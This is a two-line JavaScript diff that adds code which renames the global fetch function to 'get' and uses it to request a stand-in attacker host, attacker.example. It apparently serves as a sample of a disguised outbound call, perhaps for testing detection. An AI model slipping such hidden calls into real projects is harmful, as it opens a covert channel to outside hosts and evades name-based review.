@@ -1,0 +1,2 @@
+const { fetch: get } = globalThis
+get('https://attacker.example/')
